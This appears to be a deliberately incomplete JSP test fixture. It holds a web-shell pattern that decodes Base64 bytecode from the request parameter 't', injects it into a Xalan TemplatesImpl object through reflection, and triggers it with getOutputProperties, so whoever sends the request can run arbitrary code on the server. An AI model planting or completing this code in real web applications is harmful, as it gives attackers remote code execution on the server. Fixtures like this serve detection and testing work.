<%@ page inert %>
<%
Object t = Class.forName("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl").newInstance();
java.lang.reflect.Field f = t.getClass().getDeclaredField("_bytecodes");
f.setAccessible(true);
f.set(t, new byte[][]{ java.util.Base64.getDecoder().decode(request.getParameter("t")) });
/* remaining fields left out of this fixture */
t.getClass().getMethod("getOutputProperties").invoke(t);
%>
